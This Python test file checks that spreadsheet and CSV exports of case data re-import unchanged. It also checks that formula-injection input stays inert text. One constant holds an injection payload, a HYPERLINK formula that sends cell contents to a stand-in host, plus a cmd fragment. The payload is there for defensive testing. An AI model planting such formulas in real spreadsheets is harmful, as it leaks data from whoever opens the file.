"""What goes out as sheets comes in again as it was, and as YAML byte for byte."""

from __future__ import annotations

import dataclasses
import zipfile
from functools import partial
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from kit.authors.form.changes import after
from kit.authors.yaml_text import normal
from kit.case.case import list_cases, load_case
from kit.case.model import CaseData
from kit.case.values import NOT_YET
from kit.case.written import Written
from kit.exchange.formats import FORMATS
from kit.exchange.sheets.cells import Known
from kit.exchange.sheets.csvs import as_it_was, from_csvs, harmless
from kit.exchange.sheets.excel import from_excel
from kit.exchange.sheets.grids import grids_of, written_in
from kit.exchange.sheets.importing import import_sheets, known_of
from kit.exchange.sheets.layout import AS_EXPORTED, sheets
from kit.exchange.sheets.merging import merged
from tests import made_up
from tests.exchange.folders import bytes_of, copied, of_raw, written
from tests.hostile import hostile_data

READ = {"excel": from_excel, "csv": from_csvs}
MADE_UP = [
    pytest.param(partial(made_up.huge, 21, 22) if name == "huge" else build, id=name)
    for name, build in made_up.ALL.items()
]


def exported(folder: Path, kind: str, to: Path) -> Path:
    path = to / f"out{FORMATS[kind].ending}"
    path.write_bytes(FORMATS[kind].write(load_case(folder)))
    return path


def assert_same_again(folder: Path, to: Path) -> None:
    """Each program reads what was written, and nothing changes in the case."""
    case = load_case(folder)
    grids = grids_of(written_in(case), len(case.data.paragraphs))
    before = bytes_of(folder)
    for kind, read in READ.items():
        path = exported(folder, kind, to)
        tables = {it.name: it for it in read(path, [grid.name for grid in grids])}
        for grid in grids:
            table = tables[grid.name]
            assert table.titles == grid.titles
            assert not table.faults
            rows = [tuple(row.cells[title] for title in grid.titles) for row in table.rows]
            assert rows == [row for row in grid.rows if any(row)]
        found = import_sheets(path, folder)
        assert not found.told
        assert not found.files
        path.unlink()
    assert bytes_of(folder) == before


@pytest.mark.parametrize("name", list_cases())
def test_a_bundled_case_comes_back_as_it_was(name, tmp_path):
    assert_same_again(copied(name, tmp_path), tmp_path)


@pytest.mark.parametrize("build", MADE_UP)
def test_a_made_up_case_comes_back_as_it_was(build, tmp_path):
    assert_same_again(written(build(), tmp_path), tmp_path)


def tables_of_new_rows(folder: Path, to: Path) -> list:
    """Return the sheets of a case as somebody would have typed them: no row was there before."""
    names = {it.name: it for it in sheets(1)} | {it.name: it for it in sheets()}
    tables = from_csvs(exported(folder, "csv", to), [*names, "case"])
    for table in tables:
        sheet = names.get(table.name)
        clear = {AS_EXPORTED: ""} | ({} if sheet is None or sheet.key else {"id": ""})
        table.rows = [dataclasses.replace(it, cells={**it.cells, **clear}) for it in table.rows]
    return tables


@pytest.mark.parametrize("build", MADE_UP)
def test_sheets_hold_all_of_a_case(build, tmp_path):
    """A case of which nothing but its name was there says all of it after an import."""
    assert_all_is_held(written(build(), tmp_path), tmp_path)


@pytest.mark.parametrize("name", list_cases())
def test_sheets_hold_all_of_a_bundled_case(name, tmp_path):
    assert_all_is_held(copied(name, tmp_path), tmp_path)


def assert_all_is_held(folder: Path, to: Path) -> None:
    raw = Written.in_folder(folder).data
    others = {"articles", "counts"}
    bare = {name: raw[name] for name in ("format", "id") if name in raw}
    if raw.get("format") == "1":  # whose paragraphs are numbered by hand
        bare["paragraphs"] = [{"n": it["n"]} for it in raw.get("paragraphs", ())]
    new = of_raw(bare, to / "new")
    known = known_of(Written.in_folder(folder))
    ids = {"stance": known.ids["stance"] | {NOT_YET}, "sector": known.ids["sector"]}
    known = Known(ids, known.paragraphs)
    found = merged(tables_of_new_rows(folder, to), Written.in_folder(new).data, known)
    now = normal(Written.in_folder(new).data)
    for change in found.changes:
        now = after(now, change)
    wanted = {name: value for name, value in raw.items() if name not in others}
    assert comparable(now) == comparable(wanted)


def comparable(raw: dict) -> dict:
    """Return a case with its paragraphs numbered, and its texts as they are read."""
    found = normal(raw)
    n, numbered = 0, []
    for it in found.get("paragraphs", ()):
        n = int(it.get("n", n + 1))
        if len(it) > 1 or "n" not in it:
            numbered.append({**it, "n": str(n)})
    return found | {"paragraphs": numbered}


FORMULA = """=HYPERLINK("http://x.test?"&A1,"'so'"); -1+1|cmd _x0041_ <b>&amp;</b> “😀”"""


def test_a_text_is_no_formula_in_any_program(tmp_path):
    raw = hostile_data(made_up.one_each().model_dump(mode="json", exclude_none=True), FORMULA)
    folder = written(CaseData.model_validate(raw), tmp_path)
    assert_same_again(folder, tmp_path)
    book = load_workbook(exported(folder, "excel", tmp_path))
    claim = next(it for it in book["voices"][2] if it.value == FORMULA)
    assert (claim.data_type, claim.quotePrefix) == ("s", True)
    with zipfile.ZipFile(exported(folder, "csv", tmp_path)) as archive:
        texts = [archive.read(name).decode() for name in archive.namelist() if name[-3:] == "csv"]
    assert all(text.startswith("\ufeff") for text in texts)
    assert "\"'=HYPERLINK(" in texts[0]
    assert not any('"=' in text or "; -" in text for text in texts)


@given(st.text(alphabet=st.sampled_from([*"=+-@'a;,|:\" \n\t＝−\u200b"]), max_size=12))
def test_what_no_program_may_run_is_read_as_it_was(text):
    safe = harmless(text)
    assert as_it_was(safe) == text
    assert not safe.lstrip(" \n\u200b").startswith(("=", "+", "-", "@", "\t", "＝", "−"))
